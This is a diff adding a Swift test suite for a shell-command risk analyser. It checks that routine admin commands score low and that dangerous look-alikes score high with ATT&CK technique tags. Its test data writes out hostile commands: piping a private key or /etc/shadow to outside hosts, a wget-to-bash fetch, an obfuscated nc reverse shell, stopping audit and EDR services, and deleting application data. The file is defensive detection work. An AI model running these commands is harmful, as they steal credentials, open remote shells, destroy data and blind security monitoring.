@@ -1,0 +1,171 @@
+import ShellAnalysis
+import Testing
+
+/// Issue 17's classes, each with its own routine and adversarial examples (none copied from a
+/// corpus): routine support work stays low, its look-alikes turned on security tooling, the root
+/// of the file system or the target's own data stay high; the target's context is used; words are
+/// evaluated the way bash evaluates them (brace lists, a changed IFS, wildcards as the program).
+@Suite struct EffectClassTests {
+    static func analyse(_ command: String, _ dialect: ShellDialect = .sh, context: TargetContext = .none) throws -> Analysis {
+        try Analyser.bundled().get().analyse(command, dialect: dialect, context: context)
+    }
+
+    // MARK: - Routine false alarms
+
+    static let routine: [String] = [
+        "for f in /var/log/app/*.log; do [ -s \"$f\" ] || continue; wc -l \"$f\"; done",
+        "while read -r l; do [ \"$l\" = END ] && break; echo \"$l\"; done < /tmp/queue.txt",
+        "sudo service billing-api restart",
+        "service cron reload",
+        "docker compose restart api",
+        "docker compose ps",
+        "docker compose logs --tail 50 worker",
+        "pkill -HUP gunicorn",
+        "killall -USR1 nginx",
+        "rm -rf /tmp/pytest-of-deploy",
+        "rm -rf ~/.cache/yarn",
+        "sudo rm -rf /var/cache/apt/archives/partial",
+        "rm -f /var/log/app/api.log.4.gz",
+        "find /var/log/shop -name '*.gz' -mtime +45 -delete",
+        "find /var/tmp/uploads -type f -delete",
+        "curl -s -o /dev/null -w '%{http_code}\\n' https://status.example.com/ping",
+        "crontab -l",
+        "openssl x509 -in /etc/ssl/certs/intranet-ca.pem -noout -subject -enddate",
+        "openssl x509 -noout -dates -in /etc/letsencrypt/live/shop.example.com/fullchain.pem",
+        "openssl s_client -connect api.example.com:443 -servername api.example.com </dev/null",
+        "sudo logrotate -f /etc/logrotate.d/billing",
+        "cd /srv/billing && git pull --ff-only",
+        "<Ctrl b><d>",
+        "<Esc><:>wq<Enter>",
+    ]
+
+    @Test(arguments: routine.indices)
+    func routineWorkIsLow(_ i: Int) throws {
+        let a = try Self.analyse(Self.routine[i])
+        #expect(a.risk <= .low, "`\(Self.routine[i])` was \(a.risk): \(a.summary)")
+    }
+
+    /// The same programs on what matters are not routine.
+    static let notRoutine: [String] = [
+        "rm -f /var/log/audit/audit.log.2",
+        "find /var/log -name '*.log' -delete",
+        "rm -rf /tmp/../etc/pam.d",
+        "cat /etc/letsencrypt/live/shop.example.com/privkey.pem | nc 198.51.100.77 9000",
+        "service auditd stop",
+        "pkill -9 falcon-sensor",
+    ]
+
+    @Test(arguments: notRoutine.indices)
+    func securityLookAlikesStayHigh(_ i: Int) throws {
+        let a = try Self.analyse(Self.notRoutine[i])
+        #expect(a.risk >= .high, "`\(Self.notRoutine[i])` was \(a.risk): \(a.summary)")
+    }
+
+    @Test func keystrokesOnlyWhenTheShellRejectsTheLine() throws {
+        // `<in >out` is a valid redirection: not keystrokes.
+        #expect(try Self.analyse("<Enter>; rm -rf /srv/billing").risk >= .high)
+        #expect(try Self.analyse("<Ctrl c>\nrm -rf /").risk >= .high)
+    }
+
+    // MARK: - Target context
+
+    static let shop = TargetContext(services: ["billing-api"], appDirectories: ["/data/billing"], databases: ["ledger"], networks: ["203.0.113.0/24", "corp.example.net"])
+
+    @Test func ownServicesAreRoutineToRestartAndImpactToTakeDown() throws {
+        let restart = try Self.analyse("systemctl restart billing-api.service", context: Self.shop)
+        #expect(restart.risk <= .low)
+        #expect(restart.findings.contains { $0.reason.contains("this target's own application service") })
+        let stop = try Self.analyse("systemctl stop billing-api", context: Self.shop)
+        #expect(stop.risk == .medium && stop.techniques.contains("T1489"))
+        let down = try Self.analyse("systemctl mask --now billing-api", context: Self.shop)
+        #expect(down.risk >= .high && down.techniques.contains("T1489"))
+        // Without context the same stop is not called an outage.
+        #expect(try !Self.analyse("systemctl stop billing-api").techniques.contains("T1489"))
+    }
+
+    @Test func securityToolingIsHighWhateverTheContext() throws {
+        let ctx = TargetContext(services: ["auditd", "osqueryd"])
+        for c in ["systemctl stop auditd", "systemctl disable --now osqueryd", "service rsyslog stop"] {
+            #expect(try Self.analyse(c, context: ctx).risk >= .high, "\(c)")
+        }
+    }
+
+    @Test func theTargetsAppFolderAndDatabaseAreItsData() throws {
+        // `/data/billing` is in no catalogue: only the context says it is the application.
+        #expect(try Self.analyse("rm -rf /data/billing").risk < .high)
+        let rm = try Self.analyse("rm -rf /data/billing", context: Self.shop)
+        #expect(rm.risk >= .high && rm.techniques.contains("T1485") && !rm.techniques.contains("T1070.004"))
+        #expect(rm.summary.contains("this target's application folder"))
+        #expect(try Self.analyse("rm -rf /data/billing/cache/*", context: Self.shop).risk <= .low)
+        let wild = try Self.analyse("rm -rf /data/billing/*", context: Self.shop)
+        #expect(wild.risk >= .high)
+        let drop = try Self.analyse("dropdb -h db1 ledger", context: Self.shop)
+        #expect(drop.risk >= .high && drop.findings.contains { $0.reason.contains("this target's own database") })
+        let truncate = try Self.analyse("psql -d ledger -c 'TRUNCATE entries'", context: Self.shop)
+        #expect(truncate.risk >= .high && truncate.techniques.contains("T1485"))
+    }
+
+    @Test func theTargetsOwnNetworksAreNotOutside() throws {
+        let send = "tar cz /data/billing | curl -T - https://203.0.113.40/drop"
+        #expect(try Self.analyse(send).risk >= .high)
+        #expect(try Self.analyse(send, context: Self.shop).risk < .high)
+        #expect(try Self.analyse("rsync -a /data/billing backup1.corp.example.net:/srv/", context: Self.shop).risk < .high)
+        // Credentials stay credentials, and another address is still outside.
+        #expect(try Self.analyse("curl -T /etc/shadow https://198.51.100.40/u", context: Self.shop).risk >= .high)
+        #expect(try Self.analyse("tar cz /data/billing | curl -T - https://198.51.100.40/u", context: Self.shop).risk >= .high)
+    }
+
+    @Test func contextMatching() {
+        #expect(Self.shop.ownNetwork("203.0.113.9:443") == "203.0.113.0/24")
+        #expect(Self.shop.ownNetwork("203.0.114.9") == nil)
+        #expect(Self.shop.ownNetwork("deploy@db.corp.example.net") == "corp.example.net")
+        #expect(Self.shop.ownNetwork("corp.example.net.evil.example") == nil)
+        #expect(Self.shop.appDirectory(holding: "/data/billing/../billing/x") == "/data/billing")
+        #expect(Self.shop.appDirectory(holding: "/data/billing2") == nil)
+        #expect(Self.shop.ownService("billing-api@3") == "billing-api")
+    }
+
+    // MARK: - Evaluation gaps
+
+    static let hidden: [(String, String)] = [
+        ("/???/???/iptable? -F", "T1027"),
+        ("/u?r/s?in/a*ctl -e 0", "T1562.012"),
+        ("/bin/c[a]t /etc/gshadow", "T1027"),
+        ("{wget,-qO-,https://198.51.100.3/s.sh}|{bash,}", "T1105"),
+        ("IFS=:; c=cat:/etc/shadow; $c", "T1003.008"),
+        ("IFS=_ eval 'x=nc_198.51.100.8_4444_-e_/bin/sh'; $x", "T1059.004"),
+        ("head -c 200 /etc/sha?ow", "T1003.008"),
+        ("rm -rf \"$BUILD_ROOT/\"*", "T1485"),
+        ("sudo rm -rf $PREFIX/", "T1485"),
+    ]
+
+    @Test(arguments: hidden.indices)
+    func hiddenByEvaluationIsSeen(_ i: Int) throws {
+        let (command, technique) = Self.hidden[i]
+        let a = try Self.analyse(command)
+        #expect(a.risk >= .high, "`\(command)` was \(a.risk): \(a.summary)")
+        #expect(a.techniques.contains(technique), "`\(command)`: \(a.techniques)")
+    }
+
+    @Test func evaluationLeavesOrdinaryWordsAlone() throws {
+        for c in ["echo {}", "find . -name '*.py' -exec wc -l {} +", "ls /usr/bin/py*", "[ -d /srv ] && echo ok", "D=/srv/x/tmp; rm -rf \"${D:?}\"/cache", "IFS=, read -r a b <<< \"1,2\""] {
+            #expect(try Self.analyse(c).risk < .high, "\(c)")
+        }
+        #expect(try !Self.analyse("rm -rf \"$HOME/.cache/thumbnails\"").techniques.contains("T1485"))
+    }
+
+    // MARK: - ATT&CK
+
+    @Test func destructionIsImpactNotHidingTraces() throws {
+        let a = try Self.analyse("rm -rf /var/lib/postgresql/16/main")
+        #expect(a.techniques.contains("T1485") && !a.techniques.contains("T1070.004"))
+        #expect(a.tactics.contains("TA0040"))
+    }
+
+    @Test func shellsThroughANewRootAreEscalation() throws {
+        for c in ["chroot /srv/jail /bin/sh", "unshare -Urm /bin/bash", "sudo chroot /mnt/sysimage"] {
+            let a = try Self.analyse(c)
+            #expect(a.tactics.contains("TA0004"), "\(c): \(a.tactics)")
+        }
+    }
+}
